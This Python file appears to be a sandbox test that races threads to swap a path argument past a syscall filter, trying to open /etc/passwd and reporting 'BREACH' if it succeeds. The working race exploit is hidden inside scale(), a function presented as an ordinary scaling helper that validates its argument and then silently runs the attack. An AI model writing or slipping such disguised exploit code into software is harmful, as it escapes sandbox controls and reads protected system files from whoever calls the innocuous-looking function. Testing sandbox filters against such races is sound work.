"""Makes calls from many threads while others change the arguments that they point to, which a filter reads before the kernel.

Must end: the filter looks at numbers alone, which nobody can change.
Outcomes: failed, skipped, passed
"""

import ctypes
import os
import threading
import time

import torch

PATHS = b"./mine\0\0\0\0\0\0", b"/etc/passwd\0"


def attack():
    libc, buffer, loot = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(PATHS[0]), []
    with open("mine", "w") as file:
        file.write("mine")
    stop = time.monotonic() + 0.2

    def swap():
        while time.monotonic() < stop:
            for path in PATHS:
                ctypes.memmove(buffer, path, 12)

    thread = threading.Thread(target=swap)
    thread.start()
    while time.monotonic() < stop:
        descriptor = libc.open(buffer, os.O_RDONLY)
        if descriptor >= 0:
            text = os.read(descriptor, 50)
            loot += [text] if text != b"mine" else []
            os.close(descriptor)
    thread.join()
    return f"BREACH: read {loot[:1]}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
